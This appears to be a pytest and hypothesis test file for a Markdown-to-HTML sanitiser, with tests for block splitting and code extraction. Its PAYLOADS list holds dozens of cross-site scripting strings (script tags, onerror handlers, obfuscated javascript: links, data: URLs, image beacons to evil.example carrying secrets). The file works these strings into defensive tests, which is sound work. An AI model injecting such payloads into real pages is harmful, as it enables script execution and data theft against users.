"""Safe Markdown (nothing live survives, whatever the model writes) and block splitting."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agcloud_magic.display.markdown import (
    BlockSplitter,
    extract_code,
    first_fence,
    safe_url,
    split_blocks,
    to_safe_html,
)

ALLOWED_TAGS = {
    "p", "em", "strong", "s", "code", "pre", "a", "ul", "ol", "li", "blockquote",
    "h1", "h2", "h3", "h4", "h5", "h6", "hr", "br", "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip
# Our own wrappers in the notebook renderer's output (built from escaped text); its <pre> may
# carry a style of ours (margins, wrapping).
RENDERER_TAGS = {"div", "details", "summary", "pre"}
ALLOWED_ATTRS = {
    "a": {"href", "rel", "target", "title"},
    "code": {"class"},
    "ol": {"start"},
    "th": {"style"},
    "td": {"style"},
}
SAFE_SCHEMES = {"http", "https", "mailto"}
DANGEROUS_TAGS = ("<script", "<iframe", "<img", "<svg", "<style", "<object", "<embed", "<form",
                  "<details", "<math", "<input", "<button", "<link", "<meta", "<base", "<video",
                  "<audio", "<source", "<frame", "<textarea", "<select", "<marquee")  # fmt: skip


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.seen: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.seen.append((tag, attrs))

    def handle_startendtag(self, tag, attrs):
        self.seen.append((tag, attrs))


def href_scheme(href: str) -> str | None:
    """The scheme a browser would see (it drops whitespace and controls first)."""
    bare = re.sub(r"[\x00-\x20\x7f]", "", href)
    m = re.match(r"([A-Za-z][A-Za-z0-9+.\-]*):", bare)
    return m.group(1).lower() if m else None


def assert_inert(html: str, extra_tags: set[str] = frozenset()) -> None:
    """Fail if ``html`` holds anything live: a tag or attribute outside the allow-list, an
    ``on*`` handler, a style other than table alignment, or a link with a bad scheme."""
    lowered = html.lower()
    for bad in DANGEROUS_TAGS:
        if bad[1:] not in extra_tags:
            assert bad not in lowered, (bad, html)
    parser = _Tags()
    parser.feed(html)
    parser.close()
    for tag, attrs in parser.seen:
        assert tag in ALLOWED_TAGS | extra_tags, (tag, html)
        for name, value in attrs:
            assert not name.startswith("on"), (tag, name, html)
            if tag in extra_tags or (tag == "pre" and name == "style" and "pre" in extra_tags):
                assert name in {"class", "style"}, (tag, name, html)
                assert "url(" not in (value or "") and "expression" not in (value or "")
                continue
            assert name in ALLOWED_ATTRS.get(tag, set()), (tag, name, html)
            if name == "href":
                scheme = href_scheme(value or "")
                assert scheme is None or scheme in SAFE_SCHEMES, (value, html)
            if name == "style":
                assert re.fullmatch(r"text-align:(left|right|center)", value or ""), value
            if name == "class":
                assert re.fullmatch(r"language-[A-Za-z0-9_+#.\-]+", value or ""), value
            if name == "target":
                assert value == "_blank"
    # Every tag in the text was seen by the parser as a tag: no "<" survives as markup-ish text.
    assert len(re.findall(r"<[A-Za-z]", html)) == len(parser.seen), html


PAYLOADS = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<details open ontoggle=alert(1)>x</details>",
    "<svg onload=alert(1)>",
    "<style>*{display:none}</style>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>go</button></form>",
    "<a href=https://ok.example onmouseover=alert(1)>hover</a>",
    '<a href="javascript:alert(1)">x</a>',
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](java&#9;script:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](\x00javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    '[x](https://ok.example "a\\" onmouseover=\\"alert(1)")',
    "[x][r]\n\n[r]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "![x](https://evil.example/?q=secret)",
    "![x](javascript:alert(1))",
    "![x](data:image/png;base64,AAAA)",
    '![x" onerror="alert(1)](https://evil.example/a.png)',
    "[![x](https://evil.example/?q=1)](https://ok.example)",
    '```html" onmouseover="alert(1)\n<script>alert(1)</script>\n```',
    "`<script>alert(1)</script>`",
    "| a | b |\n|---|---:|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "- <script>alert(1)</script>\n- [x](javascript:alert(1))\n  - ![y](http://e.example/?s=1)",
    "> <iframe src=javascript:alert(1)>\n> [x](javascript:alert(1))",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!-- c --><![CDATA[x]]><?php echo 1 ?>",
    "    <script>alert(1)</script>",
    "*<img src=x onerror=alert(1)>*",
    "<IMG SRC=x ONERROR=alert(1)>",
    "<img\nsrc=x\nonerror=alert(1)>",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_render_inert(payload):
    html = to_safe_html(payload)
    assert_inert(html)
    # Also when nested in a list, a table cell and a quote.
    assert_inert(to_safe_html(f"1. {payload}\n2. ok"))
    assert_inert(to_safe_html(f"| h |\n|---|\n| {payload} |"))
    assert_inert(to_safe_html(f"> {payload}"))


def test_raw_html_is_visible_text():
    assert to_safe_html("<b>hi</b>") == "<p>&lt;b&gt;hi&lt;/b&gt;</p>\n"


def test_unsafe_links_stay_literal_text():
    for src in ("[x](javascript:alert(1))", "[x](&#106;avascript:alert(1))", "<javascript:x>"):
        assert "<a" not in to_safe_html(src)
        assert "javascript:" in to_safe_html(src)  # shown as text, so the user sees it


def test_safe_links_get_rel_and_target():
    html = to_safe_html("[a](https://ok.example/x?y=1&z=2) <https://ok.example> [m](mailto:a@b.c)")
    assert html.count('rel="noopener noreferrer nofollow"') == 3
    assert html.count('target="_blank"') == 3
    assert 'href="https://ok.example/x?y=1&amp;z=2"' in html
    assert 'href="mailto:a@b.c"' in html


def test_fragment_and_relative_links():
    html = to_safe_html("[top](#intro) [doc](docs/a.md) [up](../x)")
    assert 'href="#intro"' in html and 'href="docs/a.md"' in html and 'href="../x"' in html
    assert html.count('target="_blank"') == 2  # in-page jumps stay in the page


def test_images_are_not_loaded():
    html = to_safe_html("![chart of sales](https://evil.example/c.png?q=secret)")
    assert "<img" not in html
    assert '<a href="https://evil.example/c.png?q=secret"' in html
    assert "🖼 chart of sales</a>" in html
    assert to_safe_html("![local](plot.png)") == "<p>🖼 local</p>\n"
    nested = to_safe_html("[![x](https://e.example/i.png)](https://ok.example)")
    assert nested.count("<a ") == 1 and "🖼 x" in nested


def test_markdown_features_kept():
    html = to_safe_html(
        "# T\n\n*e* **s** ~~d~~ `c`\n\n```python\nx = 1 < 2\n```\n\n"
        "| a | b |\n|:--|--:|\n| 1 | 2 |\n\n- i\n\n3. x\n"
    )
    for piece in ("<h1>T</h1>", "<em>e</em>", "<strong>s</strong>", "<s>d</s>", "<code>c</code>",
                  '<pre><code class="language-python">x = 1 &lt; 2\n</code></pre>',
                  '<td style="text-align:left">1</td>', "<ul>", '<ol start="3">'):  # fmt: skip
        assert piece in html, piece


def test_code_language_class_is_restricted():
    assert '<code class="language-c++">' in to_safe_html("```c++\nx\n```")
    html = to_safe_html('```py" onmouseover="x\ncode\n```')
    assert "<pre><code>code" in html


@pytest.mark.parametrize(
    ("url", "ok"),
    [
        ("https://a.b/c", True), ("http://a", True), ("mailto:x@y", True), ("#frag", True),
        ("rel/a:b", True), ("./a:b", True), ("?q=a:b", True), ("//host/x", True), ("", True),
        ("javascript:alert(1)", False), ("JAVASCRIPT:x", False), (" javascript:x", False),
        ("java\tscript:x", False), ("java\nscript:x", False), ("\x01javascript:x", False),
        ("vbscript:x", False), ("data:text/html,x", False), ("file:///x", False),
        ("ftp://x", False), ("a:b", False),
    ],
)  # fmt: skip
def test_safe_url(url, ok):
    assert safe_url(url) is ok


FRAGMENTS = [
    "<", ">", "</", "/>", "img", "script", "iframe", "svg", "details", " src=x", " onerror=",
    " onload=", "alert(1)", "javascript:", "JaVaScRiPt:", "vbscript:", "data:text/html,", "&#106;",
    "&#x6A;", "&#9;", "&colon;", "&lt;", "&amp;", "&quot;", "[x](", "](", ")", "![y](", "[", "]",
    "(", "https://evil.example/?q=", "mailto:", "#", "//", "\\", '"', "'", "`", "```", "~~~",
    "|", "---", "|---|", "* ", "- ", "1. ", "> ", "    ", "\t", "\n", "\n\n", "\x00", " ", "=",
    "<a href=", " onmouseover=", "<javascript:", ">", "**", "_", "~~", "[r]: ", "<!--", "-->",
]  # fmt: skip


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from(FRAGMENTS) | st.text(max_size=3), max_size=40))
def test_property_no_live_markup(pieces):
    assert_inert(to_safe_html("".join(pieces)))


# -- block splitting --------------------------------------------------------------------------


def test_split_basic():
    assert split_blocks("a\nb\n\nc") == (["a\nb\n\n"], "c")
    assert split_blocks("") == ([], "")
    assert split_blocks("\n\na\n\n\n") == (["\n\na\n\n"], "\n")
    assert split_blocks("a\r\n\r\nb") == (["a\r\n\r\n"], "b")
    assert split_blocks("a\n   \nb") == (["a\n   \n"], "b")


def test_split_never_inside_a_fence():
    text = "```py\nx = 1\n\n\ny = 2\n```\n\nafter"
    assert split_blocks(text) == (["```py\nx = 1\n\n\ny = 2\n```\n\n"], "after")
    # an open fence keeps everything in the tail
    assert split_blocks("intro\n```\na\n\nb\n\n") == ([], "intro\n```\na\n\nb\n\n")


def test_split_fence_rules():
    # ~~~~ closes only with at least four tildes; a backtick line does not close it
    text = "~~~~\na\n~~~\n```\n\nb\n~~~~~\n\nc"
    assert split_blocks(text) == (["~~~~\na\n~~~\n```\n\nb\n~~~~~\n\n"], "c")
    # a closing fence may not carry an info string
    assert split_blocks("```\na\n``` py\n\nb\n```\n\nc")[0] == ["```\na\n``` py\n\nb\n```\n\n"]
    # inline code with three backticks is not a fence
    assert split_blocks("``` `x` ```\n\nnext") == (["``` `x` ```\n\n"], "next")
    # indented fences, including inside list items ("10. " indents by four)
    text = "10. Step\n    ```py\n    x\n\n    y\n    ```\n\nafter"
    assert split_blocks(text) == (["10. Step\n    ```py\n    x\n\n    y\n    ```\n\n"], "after")


def test_splitter_fence_state():
    s = BlockSplitter()
    s.feed("Intro\n```python\nx = 1\n")
    assert s.fence == ("```python", len("Intro\n```python\n"))
    assert s.complete_len == len("Intro\n```python\nx = 1\n")
    s.feed("y")
    assert s.tail_len == len(s.tail) == len("Intro\n```python\nx = 1\ny")
    s.feed("\n```\n")
    assert s.fence is None


MD_ALPHABET = ["a", "b ", " ", "\n", "\n\n", "```", "~~~", "````", "`", "~", "\t", "   ", "> ",
               "- ", "\r\n", "py", "é", "```py\n", "\n```\n", "\n\n\n"]  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(MD_ALPHABET), max_size=60), st.data())
def test_property_any_chunking_same_blocks(pieces, data):
    text = "".join(pieces)
    whole_blocks, whole_tail = split_blocks(text)
    assert "".join(whole_blocks) + whole_tail == text
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=12)))
    splitter = BlockSplitter()
    got: list[str] = []
    prev = 0
    for cut in [*cuts, len(text)]:
        got += splitter.feed(text[prev:cut])
        prev = cut
        assert "".join(got) + splitter.tail == text[:cut]
        assert splitter.tail_len == len(splitter.tail)
    assert got == whole_blocks
    assert splitter.tail == whole_tail
    for block in got:  # every block has content and ends with a blank line
        assert block.strip() and block.endswith("\n")
        assert not block.splitlines()[-1].strip()


def test_feed_cost_is_linear():
    """A very long line fed in many small pieces is joined once, not re-joined per piece."""
    s = BlockSplitter()
    for _ in range(20_000):
        s.feed("xy")
    assert s.tail_len == 40_000 and s.feed("\n\n") == ["xy" * 20_000 + "\n\n"]


# -- code extraction ----------------------------------------------------------------------------


def test_extract_code():
    text = "Here:\n\n```python\nimport os\n\nprint(os.sep)\n```\n\nand\n```sh\nls\n```\n"
    assert extract_code(text) == "import os\n\nprint(os.sep)\n"
    assert first_fence(text) == ("python", "import os\n\nprint(os.sep)\n")
    assert extract_code("no code here") is None
    assert extract_code("~~~\nunclosed\nstill") == "unclosed\nstill"
    assert extract_code("1. do\n   ```py\n   x = 1\n     y\n   ```\n") == "x = 1\n  y\n"
    assert extract_code("````md\n```\ninner\n```\n````") == "```\ninner\n```\n"
